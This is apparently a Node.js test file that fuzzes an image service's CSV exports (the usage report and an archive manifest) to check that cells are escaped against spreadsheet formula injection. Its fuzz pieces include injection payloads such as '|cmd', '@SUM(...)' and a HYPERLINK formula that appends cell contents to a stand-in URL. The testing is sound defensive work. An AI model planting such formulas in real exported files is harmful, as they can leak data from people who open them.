// CSV is written in two places and read nowhere: the usage book and the list in an archive.  What is
// written is read back by a parser that is not ours (Python's, strict), cell by cell, for texts of every
// nasty kind; and no cell is one that a spreadsheet would take for a formula.
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { test } from "node:test";
import { promisify } from "node:util";

import { chance } from "../soak/chance.mjs";
import { openFake, openHouse } from "./house.mjs";

const run = promisify(execFile);
const SEED = Number(process.env.CSV_SEED ?? 11);
const PIECES = ["=", "+", "-", "@", "\t", "\n", "\"", "\"\"", "'", ",", ";", " ", "=1+1", "@SUM(A1:A9)",
  "=HYPERLINK(\"http://x/?\"&A1,\"y\")", "＝", "＋", "－", "＠", "杯子", "cup", "0", "\u2028", "\ufeff", "|cmd", "é"];
const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;
const ZIP = "import zipfile, sys\nsys.stdout.buffer.write(zipfile.ZipFile(sys.argv[1]).read('manifest.csv'))";
const CSV = "import csv, io, json, sys\n" +
  "text = open(sys.argv[1], newline='', encoding='utf-8-sig').read()\n" +
  "print(json.dumps(list(csv.reader(io.StringIO(text, newline=''), strict=True))))";

async function read(house, bytes) {
  const file = join(house.data, "table.csv");
  await writeFile(file, bytes);
  const [head, ...rows] = JSON.parse((await run("python3", ["-c", CSV, file], { maxBuffer: 64 << 20 })).stdout);
  for (const row of rows) {
    assert.equal(row.length, head.length, JSON.stringify(row));
    for (const cell of row) assert.doesNotMatch(cell, FORMULA, JSON.stringify(row));
  }
  return rows.map((row) => Object.fromEntries(row.map((cell, at) => [head[at], cell])));
}

// As it was, but for the mark in front of a formula.
const cellOf = (text) => FORMULA.test(text) ? `'${text}` : text;

function texts(count, without = /(?!)/) {
  const below = chance(SEED);
  const out = new Set();
  while (out.size < count) {
    const text = Array.from({ length: 1 + below(6) }, () => PIECES[below(PIECES.length)]).join("");
    if (text.trim() === text && text.length > 0 && !without.test(text)) out.add(text);
  }
  return [...out];
}

test("the list in an archive says what was asked, whatever that was", async (t) => {
  const house = await openHouse(t, { mock: { latency_ms: 0 } });
  const prompts = texts(60);
  const run_ = await house.post("/runs", { nodes: prompts.map((prompt, index) => ({ key: `p${index}`,
    operation: "image.generate", parameters: { prompt, model: "mock", width: 64, height: 64 } })) });
  const { tasks, state } = await house.runEnds(run_.id, 120000);
  assert.equal(state, "done");
  const wanted = new Map(tasks.map((task) => [task.assets[0].id, prompts[Number(task.key.slice(1))]]));
  const made = await house.post("/archives", { ids: [...wanted.keys()] });
  const zip = await house.call("GET", made.url);
  assert.equal(zip.status, 200);
  const file = join(house.data, "pictures.zip");
  await writeFile(file, zip.bytes);
  const { stdout } = await run("python3", ["-c", ZIP, file], { encoding: "buffer" });
  const rows = await read(house, stdout);
  assert.equal(rows.length, prompts.length);
  for (const row of rows) assert.equal(row.prompt, cellOf(wanted.get(row.id)), row.id);
});

test("the book of usage says whose it is, whatever that is called", async (t) => {
  const house = await openHouse(t);
  const fake = await openFake(t);
  const names = texts(8, /[\t\n\u2028\ufeff/]/);
  for (const name of names) await house.addOpenai(fake, { name });
  const { items } = await house.get("/providers");
  const nodes = items.filter((item) => names.includes(item.name)).map((item, index) => ({ key: `p${index}`,
    operation: "image.generate", parameters: { prompt: `cup ${index}`, model: `${item.id}/gpt-image-2`, width: 1024,
      height: 1024, quality: "low", partial_images: 0 } }));
  assert.equal(nodes.length, names.length);
  assert.equal((await house.runEnds((await house.post("/runs", { nodes })).id, 120000)).state, "done");
  const rows = await read(house, (await house.call("GET", "/usage.csv?by=provider")).bytes);
  assert.deepEqual(rows.map(({ name }) => name).sort(), names.map(cellOf).sort());
});
